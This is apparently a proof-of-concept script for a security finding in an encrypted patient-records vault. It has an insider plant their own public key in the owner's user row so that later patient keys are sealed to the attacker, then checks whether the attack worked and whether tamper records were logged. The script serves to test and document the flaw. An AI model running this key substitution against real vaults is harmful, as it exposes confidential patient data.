#!/usr/bin/python3
# swap-box-pk.py: finding 1 of issue #17, written from docs/FORMATS.md with
# only the attacker's own passphrase and the vault's files. A supervisor
# unwraps the database key with their own passphrase and puts an X25519 key
# of their own in the owner's users row, hoping the next patient's key is
# sealed to it.
#
#   swap-box-pk.py plant VAULT USER PASSPHRASE-FILE KEY-OUT
#   swap-box-pk.py check VAULT USER PASSPHRASE-FILE KEY-IN PATIENT-ID
#
# "check" prints whether the planted key opens the owner's grant of the
# patient's key and how many vault.tamper records name the owner's row.
import importlib.util
import os
import sys

import nacl.bindings as sodium

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "confidant_read", os.path.join(here, "..", "reader", "confidant-read.py"))
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)


def open_as(vault, user_name, passphrase_file):
    with open(os.path.join(vault, "keyring"), "rb") as f:
        keyring = reader.read_keyring(f.read())
    me = next(u for u in keyring["users"] if u["name"] == user_name)
    with open(passphrase_file, encoding="utf-8") as f:
        passphrase = f.read().split("\n")[0]
    secrets = reader.unwrap_with_passphrase(keyring, me, passphrase)
    db = reader.Database(os.path.join(vault, "vault.db"), secrets["db_key"])
    owner = next(u for u in keyring["users"] if u["role"] == "owner")
    return db, owner


def main(argv):
    command, vault, user_name, passphrase_file, key_file = argv[1:6]
    db, owner = open_as(vault, user_name, passphrase_file)
    if command == "plant":
        public, secret = sodium.crypto_box_keypair()
        with open(key_file, "wb") as f:
            f.write(public + secret)
        db.rows("UPDATE users SET box_pk = x'%s' WHERE id = '%s'" % (public.hex(), owner["id"]))
        print("planted: the owner's users.box_pk is now the attacker's")
        return 0
    patient_id = argv[6]
    with open(key_file, "rb") as f:
        planted = f.read()
    sealed = db.rows("SELECT hex(sealed_key) FROM patient_keys WHERE patient_id = '%s' "
                     "AND user_id = '%s'" % (patient_id, owner["id"]))
    if len(sealed) != 1:
        print("no grant of the patient's key to the owner")
        return 1
    try:
        sodium.crypto_box_seal_open(bytes.fromhex(sealed[0][0]), planted[:32], planted[32:])
        print("opened: the patient's key was sealed to the planted key")
    except Exception:
        print("refused: the planted key does not open the patient's key")
    tamper = db.rows("SELECT count(*) FROM audit_log WHERE action = 'vault.tamper' "
                     "AND object_kind = 'user' AND object_id = '%s'" % owner["id"])
    print("vault.tamper records naming the owner's row: %s" % tamper[0][0])
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
